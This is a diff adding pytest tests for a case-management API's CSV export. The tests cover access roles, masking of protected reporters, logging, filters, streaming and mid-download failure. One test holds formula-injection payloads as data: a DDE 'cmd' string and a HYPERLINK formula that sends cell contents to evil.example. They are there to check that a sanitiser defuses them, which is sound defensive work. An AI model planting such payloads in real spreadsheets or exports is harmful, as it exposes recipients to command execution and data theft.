@@ -1,18 +1,23 @@
 """The Cases API over real HTTP on the real app, on SQLite and PostgreSQL: roles, the lifecycle,
-conflicts, filters and pagination, confidentiality, boards."""
+conflicts, filters and pagination, confidentiality, boards, the CSV export."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import re
 from typing import Any
 from urllib.parse import quote
 from zoneinfo import ZoneInfo
 
+import pytest
 from api_support import bearer_headers, login_session, make_user
-from sqlalchemy import func, select
+from sqlalchemy import func, insert, select
+from structlog.testing import capture_logs
 
 from api.app import create_app
+from api.case_export import COLUMNS
 from cases.models import Case, CaseEvent, PersonalDataView
 from pages_support import case_in, case_row
 from config.db import transaction
@@ -472,3 +477,162 @@ async def test_allowed_actions_are_the_viewers_and_match_the_case_page(aiohttp_c
             assert allowed == cases[case.number], (role, case.status)
             forms = re.findall(r'<form class="stacked action-form"[^>]*data-action="([a-z_]+)"', await page.text())
             assert forms == allowed, (role, case.status)
+
+
+# --- the CSV export -----------------------------------------------------------------------
+
+
+async def _export(api: Api, as_: str, query: str = "", status: int = 200) -> list[dict[str, str]]:
+    """GET the export as ``as_``; its rows read back with csv.DictReader (the BOM checked and removed)."""
+    r = await api.client.get("/api/v1/cases/export.csv" + (f"?{query}" if query else ""), headers=api.headers[as_])
+    assert r.status == status, (as_, query, await r.text())
+    if status != 200:
+        return []
+    assert r.content_type == "text/csv" and r.charset == "utf-8"
+    assert r.headers["Content-Disposition"].startswith('attachment; filename="cases-')
+    raw = await r.read()
+    assert raw.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
+    reader = csv.DictReader(io.StringIO(raw.decode("utf-8")[1:], newline=""))
+    assert tuple(reader.fieldnames or ()) == COLUMNS
+    return list(reader)
+
+
+async def _listed(api: Api, query: str) -> list[str]:
+    """The numbers the JSON list gives for ``query``, every page, in order."""
+    numbers: list[str] = []
+    cursor = None
+    while True:
+        url = "/api/v1/cases?limit=500&" + query + (f"&cursor={cursor}" if cursor else "")
+        _, page, _ = await api.call("sup", "GET", url, status=200)
+        numbers += [i["number"] for i in page["items"]]
+        cursor = page["next_cursor"]
+        if cursor is None:
+            return numbers
+
+
+async def test_export_is_the_list_with_protected_reporters_masked(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
+    api = await _api(aiohttp_client, ctx)
+    plain = await _assigned(api)
+    secret = await _assigned(api, confidential=True)
+    anonymous = await _accepted(api, anonymous=True, channel="letter")
+    draft = await _create(api, channel="letter", caller_number="13700001111", complainant_phone=None)
+    with capture_logs() as logs:
+        rows = await _export(api, "sup")
+    by = {row["number"]: row for row in rows}
+    assert [row["number"] for row in rows] == await _listed(api, ""), "the list's cases, in the list's order"
+    p = by[plain["number"]]
+    assert (p["complainant_name"], p["complainant_phone"], p["caller_number"], p["address"]) == (
+        "张三丰", "13812341234", "13812341234", "城东区建设路88号3栋"), "a supervisor sees unprotected reporters"
+    assert (p["status"], p["channel"], p["category"], p["unit"], p["handling_form"]) == (
+        "assigned", "phone", "attitude", "branch_east", "general")
+    assert p["received"] == dt.datetime.fromisoformat(plain["received_at"]).astimezone(SH).strftime("%Y-%m-%d %H:%M")
+    assert p["sign_state"] == "met" and p["reply_due"] and p["key_supervision"] == "false"
+    for case in (secret, anonymous):
+        row = by[case["number"]]
+        assert (row["complainant_name"], row["complainant_phone"], row["caller_number"], row["address"]) == (
+            "张**", "138****1234", "138****1234", "城东区****"), "protected: masked, even for a supervisor"
+    # ... whom the case itself shows them unmasked (and that view is logged; the export's are not)
+    with ctx.sessions() as s:
+        views = s.scalar(select(func.count()).select_from(PersonalDataView))
+    _, detail, _ = await api.call("sup", "GET", f"/api/v1/cases/{secret['number']}", status=200)
+    assert detail["case"]["complainant_name"] == "张三丰" and detail["case"]["address"] == "城东区建设路88号3栋"
+    await _export(api, "sup")
+    with ctx.sessions() as s:
+        assert s.scalar(select(func.count()).select_from(PersonalDataView)) == views + 1, "only the detail view logged"
+    assert [e for e in logs if e["event"] == "cases exported"] == [
+        {"event": "cases exported", "log_level": "info", "user": "sup-user", "role": "supervisor", "filters": {},
+         "rows": 4, "outcome": "complete"}]
+
+    # the list's filters, with the list's meaning
+    for query in ("channel=letter", "status=draft", "status=accepted,assigned&unit=branch_east", "caller=13700001111",
+                  "q=拖延&sort=received_at", "key_supervision=true", "overdue=false", "received_from=2000-01-01"):
+        numbers = [row["number"] for row in await _export(api, "sup", query)]
+        assert numbers == await _listed(api, query), query
+    assert [r["number"] for r in await _export(api, "sup", "channel=letter")] == [draft["number"], anonymous["number"]]
+    with capture_logs() as logs:
+        await _export(api, "sup", "channel=letter&status=draft")
+    (entry,) = [e for e in logs if e["event"] == "cases exported"]
+    assert entry["filters"] == {"channel": "letter", "status": "draft"} and entry["rows"] == 1
+    # bad filters are JSON errors, before any CSV; the page's own parameters are not filters
+    for query, field in [("status=nonsense", "status"), ("cursor=abc", "cursor"), ("limit=5", "limit"),
+                         ("caller=abc", "caller")]:
+        r = await api.client.get(f"/api/v1/cases/export.csv?{query}", headers=api.headers["sup"])
+        assert r.status == 422 and r.content_type == "application/json", query
+        assert [f["field"] for f in (await r.json())["error"]["details"]["fields"]] == [field], query
+
+    # roles: supervisors and admins (who see every personal field masked); nobody else
+    assert (await api.client.get("/api/v1/cases/export.csv")).status == 401
+    for role in ("op", "east", "camp"):
+        await _export(api, role, status=403)
+    rows = {row["number"]: row for row in await _export(api, "admin")}
+    assert rows[plain["number"]]["complainant_name"] == "张**" and rows[plain["number"]]["complainant_phone"] == "138****1234"
+
+
+async def test_export_defuses_formulas_and_keeps_hostile_text(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
+    from api.spreadsheets import safe_cell
+
+    assert [safe_cell(v) for v in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")] == [
+        "'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
+    assert [safe_cell(v) for v in ("+8613812341234", "+86*******1234", "a=1", "", None, 3)] == [
+        "+8613812341234", "+86*******1234", "a=1", "", "", "3"], "phone numbers and plain text untouched"
+    api = await _api(aiohttp_client, ctx)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    case = await _create(api, content=formula, complainant_name="@SUM(1+1)", address="-1+1", caller_number="+8613812341234",
+                         complainant_phone="+cmd|' /C calc'!A0")
+    hostile = await _create(api, content=HOSTILE + ',"\n第二行', complainant_name=HOSTILE[:120])
+    rows = {row["number"]: row for row in await _export(api, "sup")}
+    row = rows[case["number"]]
+    assert row["content"] == "'" + formula and row["complainant_name"] == "'@SUM(1+1)" and row["address"] == "'-1+1"
+    assert row["complainant_phone"] == "'+cmd|' /C calc'!A0" and row["caller_number"] == "+8613812341234"
+    row = rows[hostile["number"]]
+    assert row["content"] == HOSTILE + ',"\n第二行' and row["complainant_name"] == HOSTILE[:120], "round-trips exactly"
+    assert len(rows) == 2
+
+
+async def test_export_streams_thousands_of_cases_in_list_order(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
+    from api import case_export
+
+    api = await _api(aiohttp_client, ctx)
+    start = dt.datetime(2026, 3, 2, 9, 0, tzinfo=SH)
+    n = 2 * case_export.BATCH + 1500  # several batches and a partial last one
+    with transaction(ctx.sessions) as s:
+        s.execute(insert(Case), [
+            {"number": f"20260302-{i:05d}", "channel": "letter" if i % 3 == 0 else "phone", "status": "draft",
+             "content": f"第{i}件", "received_at": start + dt.timedelta(minutes=i // 4),  # ties broken by id
+             "caller_number": f"1380000{i:04d}", "confidential": i % 7 == 0}
+            for i in range(n)])
+    with ctx.sessions() as s:
+        expected = list(s.scalars(select(Case.number).order_by(Case.received_at.desc(), Case.id.desc())))
+    rows = await _export(api, "sup")
+    assert [r["number"] for r in rows] == expected and len(expected) == n
+    assert all(r["caller_number"] == "138****" + r["number"][-4:] for r in rows if int(r["number"][-5:]) % 7 == 0)
+    letters = await _export(api, "sup", "channel=letter&sort=received_at")
+    assert [r["number"] for r in letters] == [x for x in reversed(expected) if int(x[-5:]) % 3 == 0]
+
+
+async def test_export_failing_midway_is_a_broken_download_not_a_short_file(aiohttp_client, ctx, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from aiohttp import ClientPayloadError
+
+    from api import case_export
+
+    api = await _api(aiohttp_client, ctx)
+    for _ in range(3):
+        await _create(api)
+    monkeypatch.setattr(case_export, "BATCH", 1)
+    real, batches = case_export.export_rows, []
+
+    def second_batch_fails(*args: Any, **kw: Any) -> Any:
+        batches.append(1)
+        if len(batches) == 2:
+            raise RuntimeError("the database went away")
+        return real(*args, **kw)
+
+    monkeypatch.setattr(case_export, "export_rows", second_batch_fails)
+    with capture_logs() as logs:
+        r = await api.client.get("/api/v1/cases/export.csv", headers=api.headers["sup"])
+        assert r.status == 200, "the status line went out with the first batch"
+        with pytest.raises(ClientPayloadError):
+            await r.read()
+    (entry,) = [e for e in logs if e["event"] == "cases exported"]
+    assert (entry["rows"], entry["outcome"]) == (1, "failed")
+    assert any(e["event"] == "case export failed while streaming" for e in logs)
